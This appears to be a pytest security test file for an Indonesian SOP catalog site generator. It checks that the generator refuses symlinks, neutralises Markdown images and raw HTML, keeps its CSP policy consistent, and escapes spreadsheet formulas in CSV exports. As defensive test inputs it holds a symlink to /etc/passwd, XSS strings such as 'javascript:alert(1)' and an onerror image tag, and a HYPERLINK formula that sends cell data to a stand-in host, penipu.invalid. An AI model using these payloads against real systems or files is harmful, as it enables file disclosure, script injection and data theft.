"""Security rules checked in-process: symlinks, links, the CSP partial, spreadsheet cells.

The builds and the Chromium runs are in tests/site/test_security.py."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from katalog_sop import CatalogError, build_catalog
from katalog_sop.site import csp
from katalog_sop.site.markup import render_markdown
from katalog_sop.site.opendata import CATALOG_CSV, CATALOG_JSON, License, data_files, spreadsheet_cell
from katalog_sop.source.read import nomor_in_use
from tests.conftest import (
    OPD_YAML,
    REPO,
    SOP_YAML,
    write_catalog,
)

SECRET = "RAHASIA-7f3a9c-ghp_TokenYangTidakBolehTerbaca"


# A file outside the repository that is valid YAML, even a valid SOP: it must not be published either.
OUTSIDE_SOP = SOP_YAML.replace('nomor: "001/SOP/CONTOH/2024"', f'nomor: "{SECRET}"').replace(
    "nama: Pelayanan Contoh", f"nama: {SECRET}"
)


def hostile_links(tmp_path: Path) -> tuple[Path, Path, dict[str, str]]:
    """A project whose sops/ holds every kind of symlink; returns (project, sources, {link: what it is})."""
    outside = tmp_path / "luar"
    (outside / "folder").mkdir(parents=True)
    (outside / "rahasia.txt").write_text(f"{SECRET}\n", encoding="utf-8")  # a one-line secret
    (outside / "folder" / "sop.yml").write_text(OUTSIDE_SOP, encoding="utf-8")
    (outside / "folder" / "_opd.yml").write_text(f"nama: {SECRET}\n", encoding="utf-8")
    (outside / "sah.yml").write_text(OUTSIDE_SOP, encoding="utf-8")
    project = tmp_path / "proyek"
    sources = write_catalog(project, {"dincon/_opd.yml": OPD_YAML, "dincon/a.yml": SOP_YAML})
    (project / "rahasia-di-repo.yml").write_text(f"nomor: {SECRET}\n", encoding="utf-8")  # like .git/config
    links = {
        "sops/dincon/rahasia.yml": outside / "rahasia.txt",
        "sops/dincon/sah.yml": outside / "sah.yml",
        "sops/dincon/passwd.yml": Path("/etc/passwd"),
        "sops/dincon/dalam.yml": Path("../../rahasia-di-repo.yml"),  # stays inside the repository
        "sops/dincon/sub": outside / "folder",
        "sops/luar": outside / "folder",
    }
    for link, target in links.items():
        (project / link).symlink_to(target)
    return project, sources, {link: str(target) for link, target in links.items()}


def assert_refused_without_leaking(text: str, links: dict[str, str]) -> None:
    for link in links:
        assert f"{link}:1:1" in text or f"file={link}," in text, (link, text)
    assert "tautan simbolik" in text
    assert SECRET not in text
    assert "root:x:0:0" not in text  # nothing of /etc/passwd


def test_symlinks_are_refused_by_the_build_and_never_read(tmp_path: Path) -> None:
    project, sources, links = hostile_links(tmp_path)
    with pytest.raises(CatalogError) as raised:
        build_catalog(sources, project)
    problems = raised.value.problems
    assert {p.path for p in problems} >= set(links)
    for problem in problems:
        if problem.path in links:
            assert (problem.line, problem.column) == (1, 1)
            assert "tautan simbolik (symlink)" in problem.message and "hapus tautan ini" in problem.message
    assert_refused_without_leaking(str(raised.value), links)


def test_nomor_in_use_never_reads_a_symlink(tmp_path: Path) -> None:
    project, sources, _links = hostile_links(tmp_path)
    found = nomor_in_use(sources, project)
    assert found == {"001/SOP/CONTOH/2024": "sops/dincon/a.yml"}


def test_a_markdown_image_becomes_a_link_and_links_carry_rel() -> None:
    rendered = str(render_markdown('![denah](https://gambar.contoh.invalid/a.png "Denah") [situs](https://contoh.id/)'))
    assert "<img" not in rendered
    assert '<a href="https://gambar.contoh.invalid/a.png" rel="nofollow noopener" title="Denah">denah</a>' in rendered
    assert '<a href="https://contoh.id/" rel="nofollow noopener">situs</a>' in rendered
    # Protocol-relative, unsafe scheme, inside a link, raw HTML: never an image, never markup.
    assert "<img" not in str(render_markdown("![x](//gambar.contoh.invalid/a.png)"))
    assert str(render_markdown("![x](javascript:alert(1))")) == "<p><span>x</span></p>"
    nested = str(render_markdown("[![logo](https://a.invalid/l.png)](https://a.invalid/)"))
    assert nested == '<p><a href="https://a.invalid/" rel="nofollow noopener"><span>logo</span></a></p>'
    raw = str(render_markdown('<img src="https://a.invalid/x.png" onerror="alert(1)">'))
    assert "<img" not in raw and "&lt;img" in raw
    assert str(render_markdown("[lokal](../bpkad/)")) == '<p><a href="../bpkad/">lokal</a></p>'


def test_the_partial_and_the_readme_say_the_same_policy() -> None:
    partial = (REPO / "overrides/partials/katalog-csp.html").read_text(encoding="utf-8")
    contents = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', partial)
    assert contents == [csp.SERVE_POLICY, csp.POLICY]
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    assert readme.count(f'"{csp.HEADER_POLICY}"') == 2  # nginx and Apache
    assert "frame-ancestors" not in csp.POLICY  # ignored, with a console error, in a <meta>
    assert "'unsafe-eval'" not in csp.POLICY and "'unsafe-inline'" not in csp.POLICY.split("; ")[1]
    assert not re.search(r"https?:|\*", csp.HEADER_POLICY)  # no other host


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("https://x.invalid","klik")', '\'=HYPERLINK("https://x.invalid","klik")'),
        ("+62 721 480000", "'+62 721 480000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("Dinas = Kantor", "Dinas = Kantor"),
        ("045/SOP.02/UMUM/2024", "045/SOP.02/UMUM/2024"),
        ("", ""),
        (3, 3),
    ],
)
def test_spreadsheet_cell(value: object, cell: object) -> None:
    assert spreadsheet_cell(value) == cell


def test_csv_cells_that_look_like_formulas_are_text_and_the_json_is_unchanged(tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://penipu.invalid/?d="&A1,"Klik")'
    sop = (
        SOP_YAML.replace('nomor: "001/SOP/CONTOH/2024"', 'nomor: "-001/SOP/CONTOH/2024"')
        .replace("nama: Pelayanan Contoh", f"nama: '{formula}'")
        .replace("  jabatan: Kepala Dinas Contoh", "  jabatan: '+Kepala Dinas'")
        .replace("  nama: Drs. Contoh Saja, M.Si.", "  nama: '@Contoh Saja'")
    )
    sources = write_catalog(tmp_path, {"dincon/_opd.yml": "nama: '=1+1 Dinas'\n", "dincon/a.yml": sop})
    catalog = build_catalog(sources).published()
    files = {
        f.uri: f.content for f in data_files(catalog, "Uji", License("CC BY 4.0", ""), lambda s: "https://x.invalid/")
    }
    rows = list(csv.DictReader(io.StringIO(files[CATALOG_CSV].removeprefix("\ufeff"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["nama"] == "'" + formula
    assert row["nomor"] == "'-001/SOP/CONTOH/2024"
    assert row["opd"] == "'=1+1 Dinas"
    assert row["disahkan_oleh_jabatan"] == "'+Kepala Dinas"
    assert row["disahkan_oleh_nama"] == "'@Contoh Saja"
    for column, value in row.items():
        assert not str(value).lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), column
    record = json.loads(files[CATALOG_JSON])["sop"][0]
    assert record["nama"] == formula and record["nomor"] == "-001/SOP/CONTOH/2024"
    assert record["opd"]["nama"] == "=1+1 Dinas"
    assert record["disahkan_oleh"] == {**record["disahkan_oleh"], "jabatan": "+Kepala Dinas", "nama": "@Contoh Saja"}
    assert json.loads(files["dincon/a.json"])["nama"] == formula
